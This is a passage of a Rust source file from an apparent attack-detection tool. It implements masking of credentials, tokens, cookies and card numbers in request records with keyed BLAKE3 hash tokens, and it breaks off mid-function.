//! Masking of secrets in what records carry of a request.
//!
//! Owns the [`Masker`]: the `[masking]` configuration, the key, the name
//! patterns, and the rules that turn a parsed [`Request`] into its masked
//! view ([`MaskedRequest`]: target, headers, body excerpt) and mask a hit's
//! `matched` text. It runs in the worker, before a record exists, so no sink,
//! log or spool file ever sees a clear secret. Detection is not affected: it
//! ran earlier on the clear request.
//!
//! A masked value becomes `[masked:<12 hex>]`, the first 6 bytes of the
//! BLAKE3 keyed hash of the clear value: equal values correlate across
//! records without being revealed. The key comes from `SPECULA_MASK_KEY`,
//! else `[masking] key_file`, else is random per process (correlation then
//! holds only within one run).
//!
//! What is masked (when `enabled`, the default):
//! - headers `Authorization` / `Proxy-Authorization` (the scheme is kept),
//!   `Cookie` (names kept, each value masked), and every header whose name
//!   matches a header or parameter pattern (`X-Api-Key`, `*-Token`, ...);
//!   the query of `Referer` like the request's own;
//! - the password of URL userinfo (`scheme://user:[masked:…]@host`; a
//!   userinfo without `:` wholly) in the target, header values, the
//!   excerpt and `matched`;
//! - query, `;name=value` path, form (urlencoded and multipart) and JSON
//!   values whose names match a parameter pattern (names are percent-decoded,
//!   compared case-insensitively ignoring `-`, `_`, `.` and spaces, and also
//!   per segment of `a.b[c]`);
//! - `matched` when the hit's location is such a point, and any clear secret
//!   found in the request that also appears elsewhere (6 bytes or longer);
//! - card-like numbers (13–19 digits, spaces or dashes between, also as
//!   `+`, `%20`, `%2D`, passing Luhn) anywhere in the target, headers,
//!   excerpt and `matched`.
//!
//! A body with a `Content-Encoding` is never stored as its encoded bytes
//! (they would inflate to the clear secrets): gzip and deflate are inflated
//! (bounded, as detection does) and the excerpt is taken from the masked
//! inflated text; any other coding, or a body that does not inflate,
//! becomes `[body: <codings>, <N> bytes]`.
//!
//! Work is bounded: it runs once per attack request (and on the target of
//! request records), over the head and at most `body_excerpt_bytes` +
//! [`SWEEP_MAX_BYTES`] bytes of body. It never panics on any input.
#![forbid(unsafe_code)]
#![cfg_attr(
    not(test),
    deny(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)
)]

use std::borrow::Cow;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use memchr::memmem;
use serde::Deserialize;

use crate::detect::body::inflate::{self, Coding, Inflated};
use crate::detect::decode::{base64_text, jwt_parts, percent_decode};
use crate::detect::point::{header_param, media_type, php_boundary};
use crate::http::Request;

/// Environment variable holding the key material (never a command-line
/// flag: it would show in `ps`).
pub const KEY_ENV: &str = "SPECULA_MASK_KEY";
/// Fewest bytes of key material accepted (after trimming whitespace).
pub const KEY_MIN_BYTES: usize = 16;
/// Length of a mask: `[masked:` + 12 hex + `]`.
pub const TOKEN_LEN: usize = 21;
const TOKEN_PREFIX: &[u8] = b"[masked:";
/// Hex characters of the hash shown.
const TOKEN_HEX: usize = 12;
/// Shortest clear secret searched for elsewhere (shorter ones would mask
/// ordinary words).
const SWEEP_MIN_BYTES: usize = 6;
/// Longest clear secret searched for elsewhere; also how far past the
/// excerpt the body is masked, so a secret straddling the cut is whole.
pub const SWEEP_MAX_BYTES: usize = 4096;
/// Most clear secrets remembered per request for that search.
const SWEEP_MAX_SECRETS: usize = 64;
/// Ratio cap when inflating an encoded body for its excerpt (the output
/// is capped at excerpt + [`SWEEP_MAX_BYTES`] anyway).
const INFLATE_MAX_RATIO: usize = 100;
/// Most coding names shown in the placeholder of a body not stored.
const PLACEHOLDER_MAX_CODINGS: usize = 4;
/// Longest coding name shown in that placeholder.
const PLACEHOLDER_MAX_NAME: usize = 32;
/// How far into a JSON object its `"name"`/`"key"` member is looked for.
const PAIR_LOOKAHEAD: usize = 1024;
/// Members that say what an object's `"value"` is: `{"name":"DB_PASSWORD",
/// "value":…}`, and Keycloak's credentials and form builders'
/// `{"type":"password","value":…}`, `{"field":"password",…}` (review
/// round 17).
const PAIR_NAME_KEYS: &[&[u8]] = &[b"name", b"key", b"type", b"field"];
/// `Sec-WebSocket-Protocol` entry prefix with which the Kubernetes API
/// server takes a bearer token (browsers cannot set `Authorization` on a
/// WebSocket).
const K8S_BEARER_PROTOCOL: &[u8] = b"base64url.bearer.authorization.k8s.io.";
/// Shortest JWT header part (`eyJhbGciOi…`, base64url of `{"alg":`) read
/// as a token by the shape pass.
const JWT_MIN_HEADER: usize = 10;
/// Fixed prefixes of providers' bearer tokens, masked by shape wherever
/// they are (the prefixes secret scanners key on): GitHub, Slack, Stripe
/// (secret, restricted and webhook keys), GitLab, npm, PyPI, Shopify,
/// OpenAI, Anthropic, Google API keys.
const PROVIDER_TOKEN_PREFIXES: &[&[u8]] = &[
    b"ghp_",
    b"gho_",
    b"ghu_",
    b"ghs_",
    b"ghr_",
    b"github_pat_",
    b"xoxb-",
    b"xoxp-",
    b"xoxa-",
    b"xoxr-",
    b"xoxs-",
    b"xoxe-",
    b"xapp-",
    b"sk_live_",
    b"rk_live_",
    b"sk_test_",
    b"rk_test_",
    b"whsec_",
    b"glpat-",
    b"npm_",
    b"pypi-",
    b"shpat_",
    b"shpss_",
    b"sk-proj-",
    b"sk-ant-",
    b"AIza",
];
/// Fewest token characters after such a prefix (real ones have 20 or more).
const PROVIDER_TOKEN_MIN_BODY: usize = 16;

/// Start and length of each [`PROVIDER_TOKEN_PREFIXES`] prefix in `text`,
/// leftmost first, not overlapping: one automaton pass instead of a search
/// per prefix (masking runs over every header value of a masked request).
fn provider_prefix_starts(text: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
    static AC: OnceLock<Option<aho_corasick::AhoCorasick>> = OnceLock::new();
    let ac = AC.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .match_kind(aho_corasick::MatchKind::LeftmostLongest)
            .build(PROVIDER_TOKEN_PREFIXES)
            .ok()
    });
    // The fixed prefixes always build; were the automaton missing, every
    // position is tried rather than masking nothing.
    let fallback = ac.is_none().then(|| {
        (0..text.len()).filter_map(move |p| {
            let rest = text.get(p..).unwrap_or_default();
            PROVIDER_TOKEN_PREFIXES
                .iter()
                .find(|prefix| rest.starts_with(prefix))
                .map(|prefix| (p, prefix.len()))
        })
    });
    ac.iter()
        .flat_map(move |ac| ac.find_iter(text).map(|m| (m.start(), m.len())))
        .chain(fallback.into_iter().flatten())
}
/// Deepest JSON nesting tracked; deeper values are masked whatever their key.
const JSON_MAX_DEPTH: usize = 128;

/// Suffixes detection adds to a point's location for a layer it decoded
/// from the value (`detect/point.rs`): the same secret, so the same point.
const DECODED_SUFFIXES: &[&[u8]] = &[b":base64", b":qp", b":jwt.header", b":jwt.payload"];

/// Headers a proxy fills with the client's original target (query
/// included), masked like a `Referer` even when the value is a full URL.
const TARGET_HEADERS: &[&[u8]] = &[
    b"x-original-uri",
    b"x-original-url",
    b"x-rewrite-url",
    b"x-forwarded-uri",
    b"x-envoy-original-path",
];

/// Default parameter-name patterns (`*` matches anything), in normalised
/// form: lowercase, without `-`, `_`, `.` and spaces.
pub const DEFAULT_PARAMS: &[&str] = &[
    "*passw*",
    // `pass` and what ends in it: `new_pass`, `old_pass`, `user_pass`,
    // `db_pass`, `confirm_pass` (review 30b; `bypass` is masked too).
    "*pass",
    // WordPress's new-password fields (reset, user-new, profile).
    "pass1",
    "pass2",
    "pw",
    "psw",
    "*passphrase*",
    "*passcode*",
    "*pwd",
    "*secret*",
    "*token*",
    "*apikey*",
    "*accesskey*",
    "*privatekey*",
    // OAuth PKCE's `code_verifier` (RFC 7636), OAuth 1.0a's
    // `oauth_verifier`: what redeems a code (review round 21).
    "*verifier",
    // `?jwt=eyJ…` (bearer tokens in links and WebSocket URLs), `?key=`
    // (Google's and many other APIs' keys), OAuth's and SAML's bearer
    // `assertion`, and `SAMLResponse` (a signed login, replayable).
    "*jwt*",
    "key",
    // `client_assertion` too (RFC 7523 client authentication: a signed
    // JWT; review round 17).
    "*assertion",
    "samlresponse",
    "*credential*",
    "*signature*",
    "sig",
    "*session*",
    "*sessid*",
    "sid",
    // Session cookies that `session-fixation-*` rules name in a URL:
    // Koa's and Express's `koa.sess` / `express:sess` (by segment),
    // ColdFusion's, CakePHP's and Symfony's (review round 34c).
    "sess",
    "cfid",
    "cfsid",
    "cakephp",
    "symfony",
    "auth",
    // `auth_key`, `authkey`, `x-auth-key` (round 17's lead).
    "*authkey*",
    "*authorization*",
    "*cardnumber*",
    "*cardno*",
    "*ccnum*",
    "cc",
    "pan",
    // Anywhere in the name: `card_cvv`, `cc_cvv`, `cardCvc` (too short
    // for the sweep or the card shape).
    "*cvv*",
    "*cvc*",
    "*securitycode*",
    "pin",
    "otp",
    // One-time and second-factor codes: `otp_code`, `totp`, `mfa_token`,
    // `two_factor_code`, `verification_code` (not `*otp*`: `footprint`).
    "otp*",
    "*totp*",
    "mfa*",
    "*twofactor*",
    "*verificationcode*",
    // API keys named `…-key` / `…_key` by their service: Azure API
    // Management's `subscription-key`, Datadog's `application_key`, and
    // the like (not `*key`: `sortkey`, `primarykey`, `monkey`).
    "*subscriptionkey*",
    "*applicationkey*",
    "*appkey*",
    "*clientkey*",
    "*licensekey*",
    "*masterkey*",
    "*signingkey*",
    "*sharedkey*",
    // CAS service tickets (`?ticket=ST-…`): single use, but a login.
    "ticket",
];

/// Default header-name patterns, besides the parameter patterns (which
/// apply to header names too).
pub const DEFAULT_HEADERS: &[&str] = &[
    "authorization",
    "proxyauthorization",
    "cookie",
    "setcookie",
    "xapikey",
    "xauthtoken",
    "*token",
    "*secret",
    "*apikey",
    "*key",
    // `X-Auth`, Sentry's `X-Sentry-Auth: Sentry sentry_key=…,
    // sentry_secret=…`, and `Authentication`/`X-Authentication`, which some
    // APIs take in place of `Authorization`.
    "*auth",
    "*authentication",
];

/// `[masking]`: request context on attack records and the masking of
/// secrets in it.
#[derive(Debug, Clone, Deserialize, PartialEq)]
#[serde(default, deny_unknown_fields)]
pub struct MaskingSection {
    /// Mask secrets (default true). When false, records carry clear values.
    pub enabled: bool,
    /// File whose content (at least 16 bytes, whitespace trimmed) keys the
    /// hash. `SPECULA_MASK_KEY` wins over it. Neither: a random key per run.
    pub key_file: Option<PathBuf>,
    /// Most body bytes copied into `body_excerpt` of attack records (default
    /// 1024; 0 = none). Cut on a character boundary, never inside a mask.
    pub body_excerpt_bytes: usize,
    /// Parameter-name patterns replacing the defaults ([`DEFAULT_PARAMS`]).
    pub params: Option<Vec<String>>,
    /// Parameter-name patterns added to `params` or the defaults.
    pub extra_params: Vec<String>,
    /// Header-name patterns added to the defaults ([`DEFAULT_HEADERS`]).
    pub extra_headers: Vec<String>,
    /// Names (header, parameter, cookie, JSON key) never masked.
    pub keep: Vec<String>,
    /// Mask card-like numbers (13–19 digits passing Luhn) anywhere.
    pub card_numbers: bool,
}

impl Default for MaskingSection {
    fn default() -> Self {
        MaskingSection {
            enabled: true,
            key_file: None,
            body_excerpt_bytes: 1024,
            params: None,
            extra_params: Vec::new(),
            extra_headers: Vec::new(),
            keep: Vec::new(),
            card_numbers: true,
        }
    }
}

/// The masking configuration could not be used.
#[derive(Debug, thiserror::Error)]
pub enum MaskError {
    #[error("cannot read masking key file {}: {source}", path.display())]
    KeyFile {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("masking key from {what} is {len} bytes: at least {KEY_MIN_BYTES} needed")]
    KeyTooShort { what: String, len: usize },
}

/// Where the key came from (for diagnostics; the key itself is never shown).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum KeySource {
    Env,
    File(PathBuf),
    /// Random per process: masks correlate only within one run.
    Random,
}

/// Masks secrets; shared by the workers (immutable, `Arc`).
pub struct Masker {
    /// Unique per masker built: what a [`NameMemo`] answer belongs to.
    id: u64,
    enabled: bool,
    key: [u8; 32],
    key_source: KeySource,
    params: Vec<Vec<u8>>,
    headers: Vec<Vec<u8>>,
    keep: Vec<Vec<u8>>,
    mask_cards: bool,
    excerpt_bytes: usize,
}

impl Default for Masker {
    /// The default `[masking]` with the process's random key (no
    /// environment, no file): what [`PipelineOptions::new`](super::PipelineOptions::new) uses.
    fn default() -> Self {
        Masker::with_key(&MaskingSection::default(), random_key(), KeySource::Random)
    }
}

impl std::fmt::Debug for Masker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Masker")
            .field("enabled", &self.enabled)
            .field("key_source", &self.key_source)
            .field("excerpt_bytes", &self.excerpt_bytes)
            .finish_non_exhaustive()
    }
}

/// The masked view of one request, shared by its attack records. Bytes as
/// sent (escaped by the record builder), secrets replaced.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MaskedRequest {
    pub uri: Vec<u8>,
    /// Every header in order: (name, value).
    pub headers: Vec<(Vec<u8>, Vec<u8>)>,
    pub body_excerpt: Vec<u8>,
    secrets: Secrets,
}

/// Clear secrets met while masking a request, with their masks, to find
/// them again in other text of the same request. Its `Debug` shows how many
/// there are, never what they are: a `{:?}` of a record in a log or a panic
/// message must not print them.
#[derive(Clone, Default, PartialEq, Eq)]
struct Secrets {
    items: Vec<(Vec<u8>, Vec<u8>)>,
    /// Every `SWEEP_MIN_BYTES`-byte piece of the first
    /// `GRAM_BYTES_PER_SECRET` bytes of each secret: a `matched` quoting
    /// part of one is masked whole (review round 15: a rule on the raw
    /// body or a `Referer` matched a fragment of a masked password). Made
    /// at the first such question: most masked requests have no hit.
    grams: std::cell::OnceCell<Grams>,
}

type Grams = std::collections::HashSet<[u8; SWEEP_MIN_BYTES], ahash::RandomState>;

/// How much of each secret its pieces are taken from (so at most 64 ×
/// 512 pieces per request).
const GRAM_BYTES_PER_SECRET: usize = 512;

impl std::fmt::Debug for Secrets {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Secrets")
            .field("count", &self.items.len())
            .finish_non_exhaustive()
    }
}

impl Secrets {
    fn add(&mut self, clear: &[u8], token: &[u8]) {
        if !(SWEEP_MIN_BYTES..=SWEEP_MAX_BYTES).contains(&clear.len())
            || self.items.len() >= SWEEP_MAX_SECRETS
            || self.items.iter().any(|(c, _)| c == clear)
        {
            return;
        }
        self.items.push((clear.to_vec(), token.to_vec()));
        self.grams = std::cell::OnceCell::new();
    }

    /// Whether `text` holds a piece of a secret, in any ASCII case: the
    /// layer detection matched on may have lowercased it (SQL
    /// normalisation: review round 28).
    fn quotes_part_of_one(&self, text: &[u8]) -> bool {
        if self.items.is_empty() {
            return false;
        }
        let grams = self.grams.get_or_init(|| {
            let mut grams = Grams::default();
            for (clear, _) in &self.items {
                let head = clear.get(..GRAM_BYTES_PER_SECRET).unwrap_or(clear);
                for w in head.windows(SWEEP_MIN_BYTES) {
                    if let Ok(g) = <[u8; SWEEP_MIN_BYTES]>::try_from(w) {
                        grams.insert(g.map(|b| b.to_ascii_lowercase()));
                    }
                }
            }
            grams
        });
        text.windows(SWEEP_MIN_BYTES).any(|w| {
            <[u8; SWEEP_MIN_BYTES]>::try_from(w)
                .is_ok_and(|g| grams.contains(&g.map(|b| b.to_ascii_lowercase())))
        })
    }

    /// The token already given to exactly `clear` (a masked value or its
    /// decoded form).
    fn token_of(&self, clear: &[u8]) -> Option<&[u8]> {
        self.items
            .iter()
            .find(|(c, _)| c == clear)
            .map(|(_, t)| t.as_slice())
    }
}

/// The process's random key, drawn once so every pipeline of a process
/// masks alike.
fn random_key() -> [u8; 32] {
    static KEY: OnceLock<[u8; 32]> = OnceLock::new();
    *KEY.get_or_init(|| {
        let mut k = [0u8; 32];
        if getrandom::fill(&mut k).is_err() {
            // No OS entropy (should not happen): derive from what differs
            // between runs. Weak, but masks stay unreadable without the key.
            let seed = format!(
                "{:?}-{}-{:p}",
                std::time::SystemTime::now(),
                std::process::id(),
                &k
            );
            k = blake3::derive_key("specula mask fallback key", seed.as_bytes());
        }
        k
    })
}

fn key_from_material(what: &str, material: &[u8]) -> Result<[u8; 32], MaskError> {
    let m = material.trim_ascii();
    if m.len() < KEY_MIN_BYTES {
        return Err(MaskError::KeyTooShort {
            what: what.to_string(),
            len: m.len(),
        });
    }
    Ok(blake3::derive_key("specula 2024 masking key v1", m))
}

/// Patterns in normalised form (`*` alone masks every name).
fn patterns(list: impl IntoIterator<Item = impl AsRef<str>>) -> Vec<Vec<u8>> {
    list.into_iter()
        .map(|p| normalise(p.as_ref().as_bytes()))
        .collect()
}

/// Lowercase, without `-`, `_`, `.` and spaces.
fn normalise(name: &[u8]) -> Vec<u8> {
    name.iter()
        .filter(|b| !matches!(b, b'-' | b'_' | b'.' | b' '))
        .map(u8::to_ascii_lowercase)
        .collect()
}

/// Glob with `*` only, iterative (linear backtracking on the last star).
fn glob(p: &[u8], s: &[u8]) -> bool {
    let (mut pi, mut si) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while si < s.len() {
        match p.get(pi) {
            Some(b'*') => {
                star = Some((pi, si));
                pi += 1;
            }
            Some(c) if Some(c) == s.get(si) => {
                pi += 1;
                si += 1;
            }
            _ => match star {
                Some((sp, ss)) => {
                    pi = sp + 1;
                    si = ss + 1;
                    star = Some((sp, ss + 1));
                }
                None => return false,
            },
        }
    }
    p.get(pi..).unwrap_or_default().iter().all(|&c| c == b'*')
}

/// Per worker thread, the answers of [`Masker::name_matches`] already
/// computed, keyed by masker id, pattern list and name. Names repeat request
/// after request (header names, form fields) and each answer costs a
/// percent-decode, two copies and a glob per pattern and name segment: on
/// the CRS capture, where most requests are attacks and so are masked, that
/// was a fifth of the worker's instructions. At most [`NAME_MEMO_MAX`]
/// names of at most [`NAME_MEMO_MAX_NAME`] bytes (about 1.2 MiB per thread);
/// past that the memo starts afresh.
#[derive(Default)]
struct NameMemo {
    answers: std::collections::HashMap<Vec<u8>, bool>,
    /// The lookup key, built in place.
    key: Vec<u8>,
}

const NAME_MEMO_MAX: usize = 4096;
const NAME_MEMO_MAX_NAME: usize = 256;

thread_local! {
    static NAME_MEMO: std::cell::RefCell<NameMemo> = std::cell::RefCell::new(NameMemo::default());
}

fn any_glob(pats: &[Vec<u8>], s: &[u8]) -> bool {
    !s.is_empty() && pats.iter().any(|p| glob(p, s))
}

impl Masker {
    /// The masker of a configuration: key from `SPECULA_MASK_KEY`, else
    /// `key_file`, else random per process.
    pub fn from_config(cfg: &MaskingSection) -> Result<Masker, MaskError> {
        let (key, source) = if let Some(v) = std::env::var_os(KEY_ENV) {
            (
                key_from_material(KEY_ENV, v.as_encoded_bytes())?,
                KeySource::Env,
            )
        } else if let Some(path) = &cfg.key_file {
            (Self::key_from_file(path)?, KeySource::File(path.clone()))
        } else {
            (random_key(), KeySource::Random)
        };
        Ok(Self::with_key(cfg, key, source))
    }

    /// Key material read from a file (trimmed, at least 16 bytes).
    pub fn key_from_file(path: &Path) -> Result<[u8; 32], MaskError> {
        let bytes = std::fs::read(path).map_err(|source| MaskError::KeyFile {
            path: path.to_path_buf(),
            source,
        })?;
        key_from_material(&path.display().to_string(), &bytes)
    }

    /// The masker of a configuration with a given key.
    pub fn with_key(cfg: &MaskingSection, key: [u8; 32], key_source: KeySource) -> Masker {
        let mut params = match &cfg.params {
            Some(list) => patterns(list),
            None => patterns(DEFAULT_PARAMS),
        };
        params.extend(patterns(&cfg.extra_params));
        let mut headers = patterns(DEFAULT_HEADERS);
        headers.extend(patterns(&cfg.extra_headers));
        static NEXT_ID: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
        Masker {
            id: NEXT_ID.fetch_add(1, std::sync::atomic::Ordering::Relaxed),
            enabled: cfg.enabled,
            key,
            key_source,
            params,
            headers,
            keep: patterns(&cfg.keep),
            mask_cards: cfg.card_numbers,
            excerpt_bytes: cfg.body_excerpt_bytes,
        }
    }

    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    pub fn key_source(&self) -> &KeySource {
        &self.key_source
    }

    pub fn body_excerpt_bytes(&self) -> usize {
        self.excerpt_bytes
    }

    /// `[masked:<12 hex>]` of a clear value.
    pub fn token(&self, clear: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(TOKEN_LEN);
        self.push_token(clear, &mut out);
        out
    }

    fn push_token(&self, clear: &[u8], out: &mut Vec<u8>) {
        let hash = blake3::keyed_hash(&self.key, clear);
        out.extend_from_slice(TOKEN_PREFIX);
        const HEX: &[u8; 16] = b"0123456789abcdef";
        for b in hash.as_bytes().iter().take(TOKEN_HEX / 2) {
            for nibble in [b >> 4, b & 15] {
                out.push(HEX.get(usize::from(nibble)).copied().unwrap_or(b'0'));
            }
        }
        out.push(b']');
    }

    /// Push the mask of `clear` and remember `clear` (and `raw`, its form as
    /// sent when it differs) for the sweep.
    fn mask_value(&self, clear: &[u8], raw: &[u8], out: &mut Vec<u8>, secrets: &mut Secrets) {
        let start = out.len();
        self.push_token(clear, out);
        let token = out.get(start..).unwrap_or_default().to_vec();
        secrets.add(clear, &token);
        if raw != clear {
            secrets.add(raw, &token);
        }
        // Detection hands on the decoded text of a base64 value (and of a
        // JWT's payload), so a hit elsewhere may quote it: remember it too.
        // Bounded: only values whose decoded form the sweep could hold.
        if clear.len() > SWEEP_MAX_BYTES / 3 * 4 + 4 || secrets.items.len() >= SWEEP_MAX_SECRETS {
            return;
        }
        let mut decoded = Vec::new();
        let encoded = jwt_parts(clear).map_or(clear, |(_, payload)| payload);
        if base64_text(encoded, &mut decoded) {
            secrets.add(&decoded, &token);
        }
    }

    /// Is a name one of the kept ones?
    fn kept(&self, name: &[u8]) -> bool {
        if self.keep.is_empty() {
            return false;
        }
        let decoded = decode_name(name);
        let whole = normalise(&decoded);
        let last = decoded
            .split(|&b| matches!(b, b'.' | b'[' | b']'))
            .rfind(|s| !s.is_empty())
            .map(normalise)
            .unwrap_or_default();
        any_glob(&self.keep, &whole) || any_glob(&self.keep, &last)
    }

    /// Does a (percent-encoded) name match one of `pats`, whole or by one of
    /// its `.`/`[]` segments?
    fn name_matches(pats: &[Vec<u8>], name: &[u8]) -> bool {
        let decoded = decode_name(name);
        if any_glob(pats, &normalise(&decoded)) {
            return true;
        }
        // `/` `@` `:` separate the segments of XML (`xml:/a/@pin`) and
        // GraphQL (`graphql:arg:pin`) locations.
        decoded
            .split(|&b| matches!(b, b'.' | b'[' | b']' | b'/' | b'@' | b':'))
            .filter(|s| !s.is_empty() && s.len() != decoded.len())
            .any(|s| any_glob(pats, &normalise(s)))
    }

    /// [`Self::name_matches`] on the parameter (`false`) or header (`true`)
    /// patterns, answered from this thread's [`NameMemo`] when the name was
    /// asked before.
    fn matches_remembered(&self, headers: bool, name: &[u8]) -> bool {
        let pats = if headers { &self.headers } else { &self.params };
        if name.len() > NAME_MEMO_MAX_NAME {
            return Self::name_matches(pats, name);
        }
        NAME_MEMO.with(|memo| {
            let Ok(mut memo) = memo.try_borrow_mut() else {
                return Self::name_matches(pats, name);
            };
            let NameMemo { answers, key } = &mut *memo;
            key.clear();
            key.extend_from_slice(&self.id.to_le_bytes());
            key.push(u8::from(headers));
            key.extend_from_slice(name);
            if let Some(&known) = answers.get(key.as_slice()) {
                return known;
            }
            let answer = Self::name_matches(pats, name);
            if answers.len() >= NAME_MEMO_MAX {
                answers.clear();
            }
            answers.insert(key.clone(), answer);
            answer
        })
    }

    /// Is the value of the parameter (query, form, JSON key) `name` masked?
    pub fn param_masked(&self, name: &[u8]) -> bool {
        self.enabled && !self.kept(name) && self.matches_remembered(false, name)
    }

    /// Is the value of header `name` masked (wholly, or per cookie)?
    pub fn header_masked(&self, name: &[u8]) -> bool {
        self.enabled
            && !self.kept(name)
            && (self.matches_remembered(true, name) || self.matches_remembered(false, name))
    }

    /// Is a hit's location (`query:NAME`, `header:NAME`, `cookie:NAME`,
    /// `body:NAME`, `body:json:a.b[2]`) a masked point?
    /// A decoded layer of a point (`query:pwd:base64`,
    /// `header:Authorization:jwt.payload`) is masked like the point.
    pub fn location_masked(&self, location: &str) -> bool {
        if !self.enabled {
            return false;
        }
        let loc = location.as_bytes();
        // A name may itself end like a suffix: masked if either reading is.
        self.point_masked(loc)
            || DECODED_SUFFIXES
                .iter()
                .find_map(|s| loc.strip_suffix(*s))
                .is_some_and(|l| self.point_masked(l))
    }

    /// [`Self::location_masked`] of a location without a decoded layer.
    fn point_masked(&self, loc: &[u8]) -> bool {
        if let Some(name) = loc.strip_prefix(b"header:") {
            // A header's name never holds `:` (the head parser splits there),
            // so `User-Agent:jwt.payload` is only the decoded-layer reading,
            // not a header named after a masked `jwt` pattern.
            !name.contains(&b':') && self.header_masked(name)
        } else if let Some(name) = loc.strip_prefix(b"cookie:") {
            self.header_masked(b"cookie") && !self.kept(name)
        } else if let Some(path) = loc.strip_prefix(b"body:json:") {
            self.param_masked(path)
        } else if let Some(name) = loc
            .strip_prefix(b"query:")
            .or_else(|| loc.strip_prefix(b"body:"))
        {
            self.param_masked(name)
        } else {
            false
        }
    }

    /// The target of a request record: parameters and card numbers masked.
    pub fn mask_uri(&self, uri: &[u8]) -> Vec<u8> {
        if !self.enabled {
            return uri.to_vec();
        }
        let mut out = Vec::with_capacity(uri.len());
        self.uri_into(uri, &mut out, &mut Secrets::default());
        self.shapes(out)
    }

    /// The masked view of a request: target, every header, body excerpt.
    pub fn mask_request(&self, req: &Request) -> MaskedRequest {
        let limit = self.excerpt_bytes;
        if !self.enabled {
            // Nothing masked, but the excerpt is still text: a compressed
            // body is inflated as when masking, or named, never stored as
            // compressed bytes nobody can read in a record.
            let encodings: Vec<&[u8]> = req
                .headers
                .iter()
                .filter(|h| h.name.eq_ignore_ascii_case(b"content-encoding"))
                .map(|h| h.value)
                .collect();
            let decoded =
                (limit > 0).then(|| decoded_body(&encodings, &req.body, req.body_len, limit));
            let body_excerpt = match decoded {
                // No excerpt wanted: not even a placeholder.
                None => Vec::new(),
                Some(Ok(clear)) => clear
                    .get(..cut_excerpt(&clear, limit))
                    .unwrap_or_default()
                    .to_vec(),
                Some(Err(placeholder)) => placeholder,
            };
            return MaskedRequest {
                uri: req.uri.clone(),
                headers: req
                    .headers
                    .iter()
                    .map(|h| (h.name.to_vec(), h.value.to_vec()))
                    .collect(),
                body_excerpt,
                secrets: Secrets::default(),
            };
        }
        let mut secrets = Secrets::default();
        let mut content_type: &[u8] = b"";
        let mut encodings: Vec<&[u8]> = Vec::new();
        // (name, value, already masked)
        let mut headers: Vec<(Vec<u8>, Vec<u8>, bool)> = Vec::with_capacity(req.headers.len());
        for h in &req.headers {
            if content_type.is_empty() && h.name.eq_ignore_ascii_case(b"content-type") {
                content_type = h.value;
            }
            if h.name.eq_ignore_ascii_case(b"content-encoding") {
                encodings.push(h.value);
            }
            // A line without `:` is kept whole as a name with no value
            // (`Authorization Bearer <token>`): its words after the first
            // are masked as that header's value (review round 24).
            let blank = h.name.iter().position(u8::is_ascii_whitespace);
            if let (true, Some(sp)) = (h.value.is_empty(), blank) {
                let (first, rest) = h.name.split_at(sp);
                let (value, masked) = self.header_value(first, rest.trim_ascii(), &mut secrets);
                let mut name = first.to_vec();
                name.push(b' ');
                name.extend_from_slice(&value);
                headers.push((name, Vec::new(), masked));
                continue;
            }
            let (value, masked) = self.header_value(h.name, h.value, &mut secrets);
            headers.push((h.name.to_vec(), value, masked));
        }
        let mut uri = Vec::with_capacity(req.uri.len());
        self.uri_into(&req.uri, &mut uri, &mut secrets);
        let mut body = Vec::new();
        if limit > 0 {
            let max = limit.saturating_add(SWEEP_MAX_BYTES);
            // Compressed bytes would be stored unmasked and inflate to the
            // clear secrets: mask the inflated text, or store none.
            match decoded_body(&encodings, &req.body, req.body_len, max) {
                Ok(clear) => self.body_into(content_type, &clear, max, &mut body, &mut secrets),
                Err(placeholder) => body = placeholder,
            }
            if memmem::find(&body, b"://").is_some() {
                let mut with_urls = Vec::with_capacity(body.len());
                self.userinfo_into(&body, &mut with_urls, &mut secrets);
                body = with_urls;
            }
        }
        // Clear secrets met in one place, seen again elsewhere.
        let uri = self.shapes(self.sweep(&uri, &secrets));
        let headers = headers
            .into_iter()
            .map(|(n, v, masked)| {
                if masked {
                    (n, v)
                } else if n.iter().any(u8::is_ascii_whitespace) {
                    // A whole line kept as a name: its words are values.
                    (self.shapes(self.sweep(&n, &secrets)), v)
                } else {
                    (n, self.shapes(self.sweep(&v, &secrets)))
                }
            })
            .collect();
        let mut body = self.shapes(self.sweep(&body, &secrets));
        body.truncate(cut_excerpt(&body, limit));
        MaskedRequest {
            uri,
            headers,
            body_excerpt: body,
            secrets,
        }
    }

    /// One header's value masked alone (a record's top-level copy when no
    /// masked view of the request was made).
    pub fn mask_header(&self, name: &[u8], value: &[u8]) -> Vec<u8> {
        if !self.enabled {
            return value.to_vec();
        }
        let (value, masked) = self.header_value(name, value, &mut Secrets::default());
        if masked {
            value
        } else {
            self.shapes(value)
        }
    }

    /// A hit's `matched` text: masked whole when its location is a masked
    /// point, else with the request's known secrets and card numbers masked;
    /// at most `max` bytes (never cut inside a mask).
    pub fn mask_matched(
        &self,
        req: &MaskedRequest,
        location: &str,
        matched: &[u8],
        max: usize,
    ) -> Vec<u8> {
        let mut out = if !self.enabled || matched.is_empty() {
            matched.to_vec()
        } else if self.location_masked(location) {
            // A hit on a decoded layer (`query:pwd:base64`) quotes the decoded
            // form of a value masked elsewhere in the record: one secret,
            // one token, so the two still correlate.
            req.secrets
                .token_of(matched)
                .map_or_else(|| self.token(matched), <[u8]>::to_vec)
        } else {
            // A quote at the cap was cut (detection keeps `max` bytes): its
            // last word may be the head of a card number or token that no
            // longer has its shape, so it is left out (review round 24).
            let matched = if matched.len() >= max {
                let kept = without_cut_word(matched);
                if kept.is_empty() {
                    return self.token(matched);
                }
                kept
            } else {
                matched
            };
            // A URL password too short for the sweep may still be quoted.
            let mut out = Vec::with_capacity(matched.len());
            let swept = self.sweep(matched, &req.secrets);
            if req.secrets.quotes_part_of_one(&swept) {
